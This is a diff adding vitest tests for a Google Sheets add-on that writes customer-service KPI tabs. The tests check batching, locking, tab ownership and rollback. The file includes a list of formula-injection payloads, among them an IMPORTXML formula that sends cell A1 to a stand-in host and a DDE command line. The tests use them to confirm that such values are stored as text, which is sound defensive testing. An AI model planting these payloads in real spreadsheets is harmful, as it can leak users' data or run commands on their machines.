@@ -1,0 +1,143 @@
+import { describe, expect, it } from 'vitest';
+import { NOTHING_AVAILABLE } from '../../src/core/engine/facts';
+import type { Message } from '../../src/core/engine/model';
+import { computeReport } from '../../src/core/engine/report';
+import { DEFAULT_SCHEME } from '../../src/core/engine/scheme';
+import { resolveSettings } from '../../src/core/engine/settings';
+import { buildTabs, type Tab } from '../../src/core/sheets/tabs';
+import { loadCode } from '../fakes/loadCode';
+
+/** Formula-injection payloads as they arrive in exports (agent and customer names, message text). */
+const INJECTIONS = [
+  '=HYPERLINK("http://example.invalid","点我")',
+  '=IMPORTXML(CONCAT("http://example.invalid/?",A1),"//a")',
+  "=cmd|' /C calc'!A0",
+  '+1+1',
+  '-2+3',
+  '@SUM(1+1)',
+  '\t=1+1',
+  '\r=1+1',
+];
+
+function messages(count: number, agentNames: string[] = ['小美', '小王']): Message[] {
+  const out: Message[] = [];
+  for (let i = 0; i < count; i++) {
+    const agent = agentNames[i % agentNames.length] as string;
+    const base = Date.UTC(2024, 2, 1, 2) + i * 60_000;
+    const common = { session: null, auto: false, transfer: null, invite: false, offline: false } as const;
+    out.push({ ...common, time: base, agent, customer: `c${i}`, from: 'customer', text: '在吗' });
+    out.push({ ...common, time: base + 20_000, agent, customer: `c${i}`, from: 'agent', text: '在的' });
+  }
+  return out;
+}
+
+function tabsFor(msgs: Message[]): Tab[] {
+  const report = computeReport(
+    {
+      messages: msgs,
+      orders: [],
+      ratings: [],
+      available: { ...NOTHING_AVAILABLE, chats: true },
+      hasSessions: false,
+    },
+    resolveSettings({ timeZone: 'Asia/Shanghai' }),
+  );
+  return buildTabs(report, { scheme: DEFAULT_SCHEME, formulas: 'addon', language: 'zh-CN' });
+}
+
+/** What google.script.run hands the server: a JSON copy, made in the Apps Script realm. */
+function send(addon: ReturnType<typeof loadCode>, request: object) {
+  return addon.evaluate(`writeTabs(JSON.parse(${JSON.stringify(JSON.stringify(request))}))`);
+}
+
+const serviceCalls = (addon: ReturnType<typeof loadCode>) =>
+  addon.log.calls.filter((c) => ['Range', 'Sheet', 'Spreadsheet'].includes(c.service)).length;
+
+describe('writeTabs (google.script.run target)', () => {
+  it("writes every tab, marked as the add-on's, with headers, formulas and frozen header rows", () => {
+    const addon = loadCode();
+    expect(send(addon, { tabs: tabsFor(messages(3)) })).toEqual({
+      written: ['服务指标', '销售指标', '售后指标', '咨询明细', '绩效', '设置'],
+    });
+    const sheet = addon.spreadsheet.getSheetByName('服务指标');
+    expect(sheet?.dump()[0]?.slice(0, 3)).toEqual(['客服', '咨询量', '接待量']);
+    expect(sheet?.getFrozenRows()).toBe(1);
+    expect(sheet?.metadata.map((m) => m.getKey())).toEqual(['cs-kpi.owned']);
+    const card = addon.spreadsheet.getSheetByName('绩效');
+    expect(String(card?.dump()[1]?.[2])).toMatch(/^=IF\(B2="","",TIER_SCORE\(B2,'设置'!\$E\$2:\$G\$2/);
+    expect(addon.spreadsheet.getSheets().map((s) => s.peekName())).not.toContain('服务指标 ·新');
+  });
+
+  it('makes as many service calls for 1,000 consultations as for 10', () => {
+    const small = loadCode();
+    send(small, { tabs: tabsFor(messages(10)) });
+    const large = loadCode();
+    send(large, { tabs: tabsFor(messages(1000)) });
+    expect(serviceCalls(large)).toBe(serviceCalls(small));
+    expect(large.log.count('Range', 'setValues')).toBe(6);
+  });
+
+  it('writes every formula-injection payload from an export as text', () => {
+    const addon = loadCode();
+    send(addon, { tabs: tabsFor(messages(INJECTIONS.length, INJECTIONS)) });
+    const sheet = addon.spreadsheet.getSheetByName('服务指标');
+    const agents = (sheet?.dump() ?? []).slice(1, 1 + INJECTIONS.length).map((row) => row[0]);
+    expect(new Set(agents)).toEqual(new Set(INJECTIONS));
+    const rows = sheet?.getRange(2, 1, INJECTIONS.length, 1);
+    expect(
+      rows
+        ?.getFormulas()
+        .flat()
+        .every((f) => f === ''),
+    ).toBe(true);
+  });
+
+  it('waits for the document lock and says so when another import holds it', () => {
+    const addon = loadCode();
+    addon.lock.heldByOther = true;
+    expect(() => send(addon, { tabs: tabsFor(messages(2)) })).toThrow(
+      'Another import is writing to this spreadsheet',
+    );
+    expect(addon.spreadsheet.getSheetByName('服务指标')).toBeNull();
+  });
+
+  it('never touches a tab of the same name it did not create', () => {
+    const addon = loadCode({ spreadsheet: { tabs: ['服务指标'] } });
+    addon.spreadsheet
+      .getSheetByName('服务指标')
+      ?.getRange(1, 1, 1, 1)
+      .setValues([['我的数据']]);
+    expect(() => send(addon, { tabs: tabsFor(messages(2)) })).toThrow('was not made by the add-on');
+    expect(addon.spreadsheet.getSheetByName('服务指标')?.dump()).toEqual([['我的数据']]);
+  });
+
+  it('asks before replacing a tab the user edited since the last import', () => {
+    const addon = loadCode();
+    send(addon, { tabs: tabsFor(messages(2)) });
+    addon.spreadsheet
+      .getSheetByName('服务指标')
+      ?.getRange(2, 2, 1, 1)
+      .setValues([[999]]);
+    expect(() => send(addon, { tabs: tabsFor(messages(3)) })).toThrow('was edited since the last import');
+    expect(addon.spreadsheet.getSheetByName('服务指标')?.dump()[1]?.[1]).toBe(999);
+    send(addon, { tabs: tabsFor(messages(3)), replaceEdited: true });
+    expect(addon.spreadsheet.getSheetByName('服务指标')?.dump()[1]?.[1]).toBe(2);
+  });
+
+  it('replaces unedited tabs of its own on the next import', () => {
+    const addon = loadCode();
+    send(addon, { tabs: tabsFor(messages(2)) });
+    send(addon, { tabs: tabsFor(messages(4)) });
+    expect(addon.spreadsheet.getSheetByName('咨询明细')?.dump()).toHaveLength(5);
+  });
+
+  it('leaves the previous tabs as they were when a write fails half way', () => {
+    const addon = loadCode();
+    send(addon, { tabs: tabsFor(messages(2)) });
+    const before = addon.spreadsheet.getSheets().map((s) => [s.peekName(), s.dump()]);
+    addon.log.failAt.set('Range.setValues', addon.log.count('Range', 'setValues') + 4);
+    expect(() => send(addon, { tabs: tabsFor(messages(5)) })).toThrow('Service Spreadsheets failed');
+    expect(addon.spreadsheet.getSheets().map((s) => [s.peekName(), s.dump()])).toEqual(before);
+    expect(addon.lock.held).toBe(false);
+  });
+});
